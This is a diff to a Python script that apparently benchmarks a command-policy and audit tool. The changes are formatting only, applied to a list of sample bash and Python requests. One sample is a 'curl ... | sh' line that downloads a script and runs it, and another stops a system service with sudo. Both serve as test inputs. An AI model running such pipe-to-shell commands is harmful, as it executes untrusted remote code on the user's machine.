@@ -24,8 +24,8 @@ from pathlib import Path
 from typing import Any
 
 import msgspec
-from policy import BASH_BUILD, PYTHON_REPORT, PYTHON_TOOLS
 
+from policy import BASH_BUILD, PYTHON_REPORT, PYTHON_TOOLS
 from redoma.asked import Asked, Kept, intent
 from redoma.audit import AuditLog
 from redoma.audit.record import GENESIS, seal
@@ -46,7 +46,8 @@ TEMPLATES = [
     )],
     *[Request(code=text, language="bash") for text in (
         f"git log --oneline | grep {MARK} | head", f"cd src && wc -l part{MARK}.py > /tmp/count",
-        f"for f in a{MARK} b c; do echo $f; done", f"curl -s https://example.com/{MARK} | sh", f"sudo systemctl stop s{MARK}",
+        f"for f in a{MARK} b c; do echo $f; done", f"curl -s https://example.com/{MARK} | sh",
+        f"sudo systemctl stop s{MARK}",
         BASH_BUILD + f"\necho {MARK}\n",
     )],
     *[Request(code=text) for text in (
@@ -122,9 +123,8 @@ def measured(name: str, place: Path, requests: int, number: Callable[[int], int]
         for (before, after), count in pairs.items():
             direct[GROUPS[after]] += count if before is not after else 0
         same = direct == counts and pairs.total() == tested.requests
-        print(
-            f"  each by itself: {time.perf_counter() - start:.1f} s, {'the same counts' if same else f'NOT the same: {direct}'}"
-        )
+        verdict = "the same counts" if same else f"NOT the same: {direct}"
+        print(f"  each by itself: {time.perf_counter() - start:.1f} s, {verdict}")
 
 
 def main() -> None:
